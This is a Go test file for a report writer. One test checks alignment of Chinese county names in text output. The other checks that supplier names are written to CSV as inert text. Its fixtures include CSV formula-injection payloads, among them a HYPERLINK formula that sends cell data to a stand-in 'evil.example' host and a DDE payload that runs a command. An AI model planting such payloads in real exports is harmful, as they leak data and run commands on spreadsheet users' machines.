package report

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/heshi-verify/heshi/pipeline"
)

func TestWriteTextAlignsChinese(t *testing.T) {
	t.Parallel()
	st := &pipeline.Statistics{Counties: []pipeline.CountyRow{
		{Code: "430224", Name: "茶陵县", City: "株洲市", LocalSales: pipeline.AmountOf(84393000)},
		{Code: "433127", Name: "永顺县", City: "湘西土家族苗族自治州", LocalSales: pipeline.AmountOf(5)},
	}}
	var b strings.Builder
	if err := WriteText(&b, st, "counties"); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")[1:]
	at := func(line, token string) int { return displayWidth(line[:strings.Index(line, token)]) }
	want := at(lines[0], "local_product_sales_yuan")
	if a, c := at(lines[1], "843930.00"), at(lines[2], "0.05"); a != want || c != want {
		t.Fatalf("local sales start at cells %d and %d, header at %d:\n%s", a, c, want, b.String())
	}
}

// TestWriteCSVFormulaInert: names a supplier or buyer chose that a
// spreadsheet would run as formulas come out as text; numbers stay numbers.
func TestWriteCSVFormulaInert(t *testing.T) {
	t.Parallel()
	names := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"点击")`: `'=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
		"\t=1+1":                                      "'\t=1+1",
		"\r=1+1":                                      "'\r=1+1",
		"湘西=合作社":                                      "湘西=合作社",
		"-12.50":                                      "-12.50",
		"":                                            "",
	}
	var st pipeline.Statistics
	for name := range names {
		st.Suppliers = append(st.Suppliers, pipeline.PartyRow{ID: "S", Name: name})
	}
	var b strings.Builder
	if err := WriteCSV(&b, &st, "suppliers"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(names)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(names)+1)
	}
	for i, r := range recs[1:] {
		name := st.Suppliers[i].Name
		if r[2] != names[name] {
			t.Errorf("name %q written as %q, want %q", name, r[2], names[name])
		}
	}
}
